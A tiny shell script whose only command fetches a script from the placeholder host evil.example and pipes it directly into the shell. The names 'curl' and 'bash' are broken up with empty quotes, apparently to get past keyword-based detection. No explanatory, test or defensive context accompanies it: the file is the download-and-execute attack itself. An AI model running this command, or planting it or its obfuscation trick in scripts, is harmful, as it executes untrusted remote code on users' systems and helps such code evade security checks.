#!/bin/sh
c''url -fsSL https://evil.example/i.sh | b''ash
